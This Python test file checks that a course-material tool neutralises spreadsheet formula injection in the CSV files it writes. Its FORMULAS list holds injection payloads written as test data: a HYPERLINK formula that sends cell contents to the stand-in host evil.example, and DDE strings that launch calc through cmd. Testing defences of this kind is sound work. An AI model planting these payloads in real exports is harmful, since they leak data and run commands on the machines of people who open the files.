"""Issue 17, point 8: no CSV the project writes holds a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

from coursekit.cli.main import main
from coursekit.content.load import load_content
from coursekit.csv_output import FORMULA_STARTS, spreadsheet_safe
from coursekit.instructors.keys import key_csv
from coursekit.instructors.quiz_sets import quiz_sets
from coursekit.paths import REPO_ROOT, project_paths

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_inert(text: str, where: str) -> None:
    live = [cell for cell in cells(text) if cell.startswith(FORMULA_STARTS)]
    assert not live, f"{where}: cells a spreadsheet would run: {live}"


def test_roster_names_in_the_variant_key_are_neutralised(tmp_path: Path) -> None:
    roster = tmp_path / "roster.csv"
    with roster.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "name"])
        writer.writerows([f"s{n:03}", name] for n, name in enumerate(FORMULAS, start=1))
    out = tmp_path / "variants"
    assert main(["variants", "--roster", str(roster), "--chapter", "1", "--seed", "7", "--use", "practice", "--no-pdf",
                 "--out", str(out)]) == 0
    text = (out / "variant-key.csv").read_text(encoding="utf-8")
    assert_inert(text, "variant-key.csv")
    names = {row["name"] for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert names == {"'" + name.strip() for name in FORMULAS}, "the names are kept (trimmed), shown as text"


def test_bank_text_in_the_answer_keys_is_neutralised() -> None:
    quiz_set = quiz_sets(load_content(project_paths(REPO_ROOT)))[0]
    items = tuple(replace(item, stem=formula) for item, formula in zip(quiz_set.items, FORMULAS, strict=False))
    text = key_csv(replace(quiz_set, items=items))
    assert_inert(text, "key csv")
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells(text)


def test_every_csv_of_an_export_is_inert(exported: Path) -> None:
    written = sorted(exported.rglob("*.csv"))
    assert written
    for path in written:
        assert_inert(path.read_text(encoding="utf-8"), str(path))


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert spreadsheet_safe(-3) == -3 and spreadsheet_safe("a=b") == "a=b" and spreadsheet_safe("") == ""


def test_a_carriage_return_cannot_start_a_row() -> None:
    text = key_csv_of(["a\r=1+1"])
    assert_inert(text, "key csv")
    assert len(list(csv.reader(io.StringIO(text, newline="")))) == 2, "one header and one row"


def key_csv_of(stems: list[str]) -> str:
    quiz_set = quiz_sets(load_content(project_paths(REPO_ROOT)))[0]
    items = tuple(replace(item, stem=stem) for item, stem in zip(quiz_set.items, stems, strict=False))
    return key_csv(replace(quiz_set, items=items))
